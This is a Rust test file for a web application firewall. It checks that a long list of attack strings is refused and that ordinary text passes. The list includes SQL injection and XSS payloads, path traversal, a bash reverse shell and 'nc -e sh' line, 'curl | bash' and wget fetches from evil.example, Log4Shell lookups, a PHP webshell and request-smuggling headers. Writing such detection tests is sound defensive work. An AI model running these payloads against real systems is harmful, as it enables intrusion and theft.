//! The default rule set: attacks are refused, ordinary requests are not.

use crate::common::Request;
use gateway_waf::{DEFAULT_RULES, Embedded, Waf};

fn waf() -> Waf {
    let names: Vec<&str> = DEFAULT_RULES.iter().map(|(name, _)| *name).collect();
    match Waf::load(&names, &Embedded) {
        Ok(waf) => waf,
        Err(errors) => panic!("{errors}"),
    }
}

fn encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

pub(crate) const ATTACKS: &[&str] = &[
    "1' UNION SELECT username, password FROM users-- ",
    "-1 union all select 1,2,3",
    "1 UNION/**/SELECT NULL,NULL,version()",
    "x' UnIoN SeLeCt @@version#",
    "' OR '1'='1",
    "' or 1=1--",
    "\" or \"\"=\"",
    "admin'--",
    "admin' #",
    "admin') or ('1'='1",
    "1 or 1=1",
    "1) and (2=2",
    "1; DROP TABLE users",
    "'; exec xp_cmdshell('dir')--",
    "1' AND SLEEP(5)-- -",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' and (select count(*) from information_schema.tables)>0--",
    "1 AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
    "1' ORDER BY 10--",
    "/*!50000select*/",
    "' || (select password from users limit 1) || '",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "javascript:alert(document.cookie)",
    "java\tscript:alert(1)",
    "<iframe src=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "'+document.cookie+'",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/shadow",
    "php://filter/convert.base64-encode/resource=index",
    "%2e%2e%2f%2e%2e%2fboot",
    "http://169.254.169.254/latest/meta-data/",
    "; cat /etc/hosts",
    "| whoami",
    "&& wget http://evil.example/x.sh",
    "$(id)",
    "`uname -a`",
    ";id",
    "127.0.0.1; ping -c 3 evil.example",
    "a|nc -e sh 10.0.0.1 4444",
    "cat$IFS/x",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "cmd.exe /c dir",
    "powershell -enc SQBFAFgA",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "{{7*7}}",
    "${7*7}",
    "{{config.items()}}",
    "''.__class__.__mro__[1].__subclasses__()",
    "<?php system($_GET['c']); ?>",
    "eval(base64_decode('aWQ='))",
    "rO0ABXNyABFqYXZh",
    "*)(uid=*))(|(uid=*",
    "x\r\nSet-Cookie: a=b",
    "a\0b",
    "x' or 1.5=1.5",
    "7e1 union select name from accounts limit 1",
    "union/**/select",
    "a/**/b/*x*/c/**/d",
    "select-1from`t`",
    "1 and 2=2 and json_valid('{}') = 1",
    "db.users.find({name: 1})",
    "x', $or: [ {}, {'a':'a",
    "x'-confirm(1)-'",
    "(prompt)(1)",
    "eval(atob('YQ=='))",
    "x\" onfocus=alert(1) autofocus=\"",
    "[].filter.constructor('return 1')()",
    "\\\\10.0.0.1\\c$\\users",
    "/b?n/c?t /e??/h?sts?",
    "head /etc/pa*wd",
    "; cat /et'c/gro'up",
    "curl -s evil.example | bash",
    "$(printf ab|rev)",
    "|getent hosts a.example",
    "--upload-pack=`id`",
    "<#assign x = 1>",
    "!!python/object/apply:os.system",
    "<!--#exec cmd=\"id\" -->",
    "(&(cn=a)(!(cn=b)))",
    "x\r\nRCPT TO: a@evil.example\r\n",
    "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\">",
    "http://a1b2.oast.me/x",
];

pub(crate) const ORDINARY: &[&str] = &[
    "O'Brien",
    "select a seat from the union",
    "the European Union select committee on trade",
    "teachers' union select new members from each school",
    "Drop table tennis from the list; create user accounts later",
    "rock 'n' roll and 80's or 90's music",
    "I'd like 2 or 3 = maybe 4",
    "5' or 6' tall",
    "say \"yes\" and select File from the menu",
    "What's the difference between UNION and UNION ALL?",
    "where do I order by phone?",
    "it costs 10 and 20 > 15",
    "JavaScript: The Good Parts",
    "javascript: how to sort (part 1)",
    "a < b and c > d",
    "I <3 you on sunday = best day",
    "How do I use the <form> tag?",
    "<b>bold</b> and <i>italic</i> <a href=\"https://example.org/?a=1&b=2\">link</a>",
    "dog & cat",
    "salt; cat food; wget is a tool",
    "name; id",
    "passport & id card",
    "The price is $(about) 5",
    "use `ls` to list files, or `id`",
    "Tom & Jerry | Cartoon; sleep well",
    "C:\\Users\\me\\Documents\\report.docx",
    "../images/logo.png",
    "https://example.com/path/../other?x=1#top",
    "data:image/png;base64,iVBORw0KGgo=",
    "Hi {{name}}, welcome",
    "${price} is a shell variable",
    "100% sure, 50%off",
    "a=b&c=d",
    "foo@bar.com",
    "function(x) { return x + 1; }",
    "我想预订一张桌子",
    "Größe: 5\" × 7\"",
    "See section 3.1 -- it's great",
    "She said: \"that's it\" -- and left",
    "#hashtag 'quoted' #2",
    "-- signature --",
    "Location: Paris\nContent: nice",
    "/etc/hosts file format",
    "e^(i*pi) + 1 = 0",
    "*bold* _italic_ (uid)",
    "SELECT",
    "insert coin; update later",
    "exec committee (2024)",
    "sleep(well) and dream",
    "or",
    "'",
    "it's 1=1",
    "Ann's and Bob's",
    "if (a || b) && c",
    "what is $_ in perl",
    "price>=10 and price<=20",
    "an alert (see above) and a prompt reply",
    "Please confirm(it) by mail",
    "She asked: \"online = good?\"",
    "What does the eval function do?",
    "<!-- a comment --> and <!DOCTYPE html>",
    "glob patterns such as src/**/*.rs or /api/*/items",
    "where is it?/what is it?",
    "pipe the output of one command | into the next",
    "quit\nwhile you are ahead",
    "Q1 select: A1 login page",
    "(a & b) | (c & !d) = e",
    "\\\\server\\share\\folder",
    "costs $or more: [about 5]",
    "constructor of the year: 'Ferrari'",
    "and 1 = 1 is true",
    "sound from dual speakers",
    "\"stop\", alert (now)",
    "/etc/fstab's format",
    "if (!(a == b)) return",
];

#[test]
fn attacks_are_refused_wherever_they_stand() {
    let waf = waf();
    let mut missed = Vec::new();
    for attack in ATTACKS {
        let encoded = encode(attack);
        let query = format!("/search?q={encoded}");
        let form = format!("a=1&q={encoded}");
        let text = attack
            .chars()
            .map(|c| match c {
                '"' => "\\\"".to_owned(),
                '\\' => "\\\\".to_owned(),
                c if c.is_control() => format!("\\u{:04x}", u32::from(c)),
                c => c.to_string(),
            })
            .collect::<String>();
        let json = format!("{{\"a\": 1, \"b\": [{{\"q\": \"{text}\"}}]}}");
        let requests = [
            ("query", Request::get(&query)),
            (
                "form",
                Request::post("/f", "application/x-www-form-urlencoded", form.as_bytes()),
            ),
            (
                "json",
                Request::post("/j", "application/json; charset=utf-8", json.as_bytes()),
            ),
        ];
        for (place, request) in requests {
            if request.run(&waf).0.is_pass() {
                missed.push(format!("{place}: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "not refused:\n{}", missed.join("\n"));
}

#[test]
fn ordinary_requests_pass() {
    all_pass(ORDINARY.iter().copied());
}

#[test]
fn what_people_write_passes() {
    all_pass(include_str!("../texts.txt").lines());
}

/// Sends each text as a search, a comment and a message, without decoders and with all of them.
fn all_pass<'a>(texts: impl Iterator<Item = &'a str>) {
    let mut deep = waf();
    deep.set_decoders(gateway_waf::Decoder::ALL.into_iter().collect());
    let wafs = [waf(), deep];
    let mut blocked = Vec::new();
    for (text, waf) in texts.flat_map(|text| wafs.iter().map(move |waf| (text, waf))) {
        let encoded = encode(text);
        let query = format!("/search?q={encoded}&page=2");
        let form = format!("name=x&comment={encoded}&ok=1");
        for request in [
            Request::get(&query).header("Referer", "https://shop.example/a?b=c&d=e"),
            Request::post("/f", "application/x-www-form-urlencoded", form.as_bytes()),
            Request::post("/t", "text/plain", text.as_bytes()),
        ] {
            let (decision, transaction) = request.run(waf);
            if !decision.is_pass() {
                blocked.push(format!("{text}: {}", transaction.matches()[0]));
            }
        }
    }
    assert!(blocked.is_empty(), "refused:\n{}", blocked.join("\n"));
}

#[test]
fn faults_of_protocol_and_probes_are_refused() {
    let waf = waf();
    let json = "application/json";
    let table: Vec<(&str, Request<'_>)> = vec![
        (
            "trace",
            Request {
                method: "TRACE",
                ..Request::get("/")
            },
        ),
        (
            "two hosts",
            Request::get("/").header("host", "other.example"),
        ),
        (
            "content-length",
            Request::get("/").header("Content-Length", "1, 2"),
        ),
        (
            "smuggling",
            Request::get("/")
                .header("Content-Length", "1")
                .header("Transfer-Encoding", "chunked"),
        ),
        ("bad json", Request::post("/", json, b"{\"a\": ")),
        (
            "compressed",
            Request::post("/", json, b"\x1f\x8b").header("Content-Encoding", "gzip"),
        ),
        (
            "scanner",
            Request {
                headers: vec![("User-Agent", "sqlmap/1.8")],
                ..Request::get("/")
            },
        ),
        ("dot env", Request::get("/app/.env")),
        ("dot git", Request::get("/.git/config")),
        (
            "traversal in the path",
            Request::get("/static/..%2f..%2f..%2fetc/passwd"),
        ),
        ("overlong", Request::get("/?f=%c0%ae%c0%ae/x")),
        (
            "shellshock",
            Request::get("/").header("X-Any", "() { :;}; /bin/true"),
        ),
        (
            "log4shell in a header",
            Request::get("/").header("X-Api", "${jndi:dns://x}"),
        ),
        (
            "nosql",
            Request::post("/", json, br#"{"user": {"$ne": null}}"#),
        ),
        (
            "prototype",
            Request::post("/", json, br#"{"__proto__": {"admin": true}}"#),
        ),
        (
            "xxe",
            Request::post(
                "/",
                "text/xml",
                b"<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///x\">]>",
            ),
        ),
        (
            "script in text",
            Request::post("/", "text/plain", b"<script>alert(1)</script>"),
        ),
        (
            "cookie",
            Request::get("/").header("Cookie", "a=b; id=1' or '1'='1"),
        ),
    ];
    for (what, request) in table {
        assert!(!request.run(&waf).0.is_pass(), "{what}");
    }
}
